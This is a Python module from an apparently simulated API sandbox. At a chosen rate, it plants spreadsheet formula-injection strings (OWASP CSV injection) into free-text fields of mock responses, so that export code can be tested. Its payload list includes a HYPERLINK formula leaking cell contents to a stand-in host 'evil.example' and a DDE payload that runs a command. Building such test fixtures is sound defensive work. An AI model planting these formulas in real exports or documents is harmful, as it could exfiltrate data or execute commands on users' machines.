"""Hostile text planted in answers: strings a spreadsheet would run as formulas (OWASP).

Off by default. With a rate above 0, that share of the free-text strings of every answer
(company names, descriptions, headlines, post texts, lead names, skills...) starts with a formula
prefix. Identifiers, URLs, timestamps, enumerations and echoed filters are never touched, so
every answer keeps its shape and every id still resolves.

Deterministic: whether a string is planted, and with which payload, depends on the string alone
(a stable hash), so the same answer is the same every time, in every process, and a name shown
by one endpoint (a lead's `name`) is planted the same way by another (the profile's `full_name`).
"""

from __future__ import annotations

from typing import Any, Final

from profnet_sheets.sandbox.world import stable_hash

# `{}` is the original text: a planted value still says what it was.
PAYLOADS: Final = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"{}")',
    "+1+1 {}",
    "-2+3 {}",
    "@SUM(A1) {}",
    "\t=1+1 {}",
    "\r=1+1 {}",
    "\n=1+1 {}",
    "=cmd|' /C calc'!A0 {}",
    "\x00=1+1 {}",
)
PREFIXES: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")

# Fields that are not free text: ids, URLs, times, enumerations, what the caller sent.
_KEPT: Final = frozenset(
    {
        "urn",
        "website",
        "profile_picture",
        "status",
        "search_type",
        "message",
        "type",
        "remote_type",
        "job_type",
        "experience_level",
        "company_size",
        "salary_range",
        "filters",
        "paging",
    }
)
_KEPT_SUFFIXES: Final = ("_url", "url", "_id", "_at", "_date")
_SCALE: Final = 1_000_000


def is_text_field(name: str) -> bool:
    """Whether strings under the field `name` are free text a hostile value may be planted in."""
    return name not in _KEPT and not name.endswith(_KEPT_SUFFIXES)


def planted(text: str, rate: float) -> str:
    """`text`, or a hostile version of it for `rate` of all texts (chosen by a stable hash)."""
    if rate <= 0 or not text or stable_hash("hostile", text) % _SCALE >= rate * _SCALE:
        return text
    return PAYLOADS[stable_hash("payload", text) % len(PAYLOADS)].format(text)


def plant(body: Any, rate: float, field: str = "") -> Any:
    """A copy of the JSON `body` with hostile text planted in its free-text strings."""
    if rate <= 0:
        return body
    if isinstance(body, dict):
        return {
            name: plant(value, rate, name) if is_text_field(name) else value
            for name, value in body.items()
        }
    if isinstance(body, list):
        return [plant(item, rate, field) for item in body]
    if isinstance(body, str) and field:
        return planted(body, rate)
    return body
